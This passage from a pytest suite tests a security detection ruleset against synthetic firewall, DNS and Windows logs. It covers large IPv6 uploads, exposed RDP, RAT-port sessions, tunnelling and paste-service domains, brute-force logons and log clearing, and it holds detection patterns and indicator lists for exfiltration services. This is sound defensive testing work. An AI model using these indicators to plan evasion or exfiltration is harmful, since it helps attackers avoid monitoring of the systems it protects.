    "{total},{sent},1117636,166048,2026/11/02 10:{m:02d}:10,494,computer-and-internet-info,0,70050003{m:02d},0x0,"
    "fd00::-fdff:ffff:ffff:ffff:ffff:ffff:ffff:ffff,United States,0,143696,22352,tcp-fin,0,0,0,0,,pa-hq-edge01,"
    "from-policy,,,0,,0,,N/A,0,0,0,0\n"
)


def test_upload_volume_from_ipv6_hosts_counts(ruleset, tmp_path: Path) -> None:
    """An internal host on a ULA address sends 1.2 GB out over IPv6; the same to an internal peer is no upload."""
    sent = 201_174_640

    def sessions(src: str, dst: str) -> str:
        return "".join(
            PANOS_END.format(m=10 + i, src=src, dst=dst, sent=sent, total=sent + 1_117_636) for i in range(6)
        )

    out = lines(tmp_path, "out.log", sessions("fd00:10:10::16", "2a03:2880:f10d:83::1"), "panos")
    assert fired(ruleset, out).count("Large Upload To The Internet") >= 1
    inside = lines(tmp_path, "in.log", sessions("fd00:10:10::16", "fd00:10:20::40"), "panos")
    assert "Large Upload To The Internet" not in fired(ruleset, inside)


def test_cisco_asa_built_connections_are_permitted_traffic(ruleset, tmp_path: Path) -> None:
    """ASA (and FTD, SonicWall) log a permitted connection as built, type [connection, start], never
    'allowed': the perimeter rules must still see an exposed RDP server or a session to a RAT port."""
    text = (
        "Nov  2 11:02:10 asa-reg2 : %ASA-6-302013: Built inbound TCP connection 880213 for "
        "outside:203.0.113.50/51515 (203.0.113.50/51515) to inside:10.40.0.25/3389 (198.51.100.40/3389)\n"
        "Nov  2 11:03:10 asa-reg2 : %ASA-6-302013: Built outbound TCP connection 880214 for "
        "outside:45.77.12.9/4444 (45.77.12.9/4444) to inside:10.40.10.31/50122 (198.51.100.40/61022)\n"
        "Nov  2 11:04:10 asa-reg2 : %ASA-4-106023: Deny tcp src outside:203.0.113.51/51516 dst "
        'inside:198.51.100.40/3389 by access-group "outside_access_in" [0x0, 0x0]\n'
    )
    hits = fired(ruleset, lines(tmp_path, "asa.log", text, "cisco-asa"))
    assert sorted(hits) == [
        "Outbound Connection On A Port Favoured By Remote Access Tools",
        "RDP Reachable From The Internet",
    ]


def test_windows_account_creation_is_not_a_linux_useradd(ruleset, tmp_path: Path) -> None:
    """Winlogbeat calls 4720 'added-user-account' too; ECS-taxonomy rules get no logsource condition,
    so the Linux rule has to tell the sources apart itself."""
    record = {
        "@timestamp": "2026-11-02T04:26:38.025Z",
        "agent": {"type": "winlogbeat", "version": "8.15.3", "name": "DC01"},
        "host": {"name": "DC01.agency.gov", "hostname": "DC01"},
        "event": {"code": "4720", "kind": "event", "provider": "Microsoft-Windows-Security-Auditing"},
        "winlog": {
            "channel": "Security",
            "computer_name": "DC01.agency.gov",
            "event_id": "4720",
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "record_id": 2348748790,
            "api": "wineventlog",
            "keywords": ["Audit Success"],
            "event_data": {
                "TargetUserName": "newhire27",
                "TargetDomainName": "AGENCY",
                "TargetSid": "S-1-5-21-3623811015-3361044348-30300820-8271",
                "SubjectUserName": "adm_amitchell",
                "SubjectDomainName": "AGENCY",
                "SamAccountName": "newhire27",
            },
        },
    }
    events = lines(tmp_path, "sec.ndjson", json.dumps(record) + "\n", "winlog-json")
    assert events[0]["event"]["action"] == "added-user-account"
    assert "Local User Account Created" not in fired(ruleset, events)


def test_tunnel_and_paste_services_by_whole_labels(ruleset, tmp_path: Path) -> None:
    """ngrok's current domains count; a different domain that merely ends in the same letters does not."""
    names = [
        "7f3a-203-0-113-9.ngrok-free.app",
        "c0ffee.ngrok.app",
        "transfer.sh",
        "pastebin.com",
        "mytransfer.sh",
        "notpastebin.com",
    ]
    text = "".join(ZEEK_DNS.format(i=i, t=300 + i, name=name) for i, name in enumerate(names))
    hits = fired(ruleset, lines(tmp_path, "dns.log", text, "zeek"))
    assert hits == ["Query For A Tunnelling Or Paste Service"] * 4


def failed_logon(i: int, host: str, user: str, ip: str, logon_type: str) -> str:
    data = {
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": f"{host}$",
        "SubjectDomainName": "AGENCY",
        "SubjectLogonId": "0x3e7",
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": user,
        "TargetDomainName": "AGENCY",
        "Status": "0xc000006d",
        "FailureReason": "%%2313",
        "SubStatus": "0xc000006a",
        "LogonType": logon_type,
        "LogonProcessName": "User32 ",
        "AuthenticationPackageName": "Negotiate",
        "WorkstationName": host,
        "ProcessName": "C:\\Windows\\System32\\svchost.exe",
        "IpAddress": ip,
        "IpPort": "0",
    }
    record = {
        "@timestamp": f"2026-11-02T08:0{i // 10}:{(i % 10) * 5:02d}.100Z",
        "agent": {"type": "winlogbeat", "version": "8.15.3", "name": host},
        "host": {"name": f"{host}.agency.gov", "hostname": host},
        "event": {"code": "4625", "kind": "event", "provider": "Microsoft-Windows-Security-Auditing"},
        "winlog": {
            "channel": "Security",
            "computer_name": f"{host}.agency.gov",
            "event_id": "4625",
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "record_id": 5120000 + i,
            "api": "wineventlog",
            "keywords": ["Audit Failure"],
            "event_data": data,
        },
    }
    return json.dumps(record) + "\n"


def test_console_typos_across_the_fleet_are_not_one_attacker(ruleset, tmp_path: Path) -> None:
    """An interactive logon failure records 127.0.0.1 (or no address): twelve people mistyping at twelve
    desks in the same minutes are not a brute force or a spray from one source."""
    text = "".join(failed_logon(i, f"WS-HQ-{i:04d}", f"user{i:02d}", "127.0.0.1", "2") for i in range(12))
    text += "".join(failed_logon(12 + i, f"SRV-APP{i:02d}", "svc_backup", "-", "5") for i in range(12))
    assert fired(ruleset, lines(tmp_path, "fleet.ndjson", text, "winlog-json")) == []


def test_local_guessing_on_one_host_is_still_seen(ruleset, tmp_path: Path) -> None:
    text = "".join(failed_logon(i, "WS-HQ-0042", "Administrator", "127.0.0.1", "2") for i in range(12))
    hits = fired(ruleset, lines(tmp_path, "one.ndjson", text, "winlog-json"))
    assert hits.count("Windows Logon Failures On One Host Without A Network Source") >= 1
    assert "Windows Logon Brute Force" not in hits


def test_clearing_logs_other_than_security_is_seen(ruleset, shared_data: Path) -> None:
    """Event 104 in System names the log that was cleared: Sysmon, PowerShell, System itself."""
    evtx = next((shared_data / "endpoint" / "evtx").rglob("ID104-1102-Event log cleared.evtx"), None)
    require(evtx is not None, "EVTX-to-MITRE-Attack log-clearing sample not found")
    events = [e for e in parse([evtx]) if e.get("winlog", {}).get("channel") == "System"]
    assert events
    hits = fired(ruleset, events)
    assert hits and set(hits) == {"Windows Event Log Cleared"}
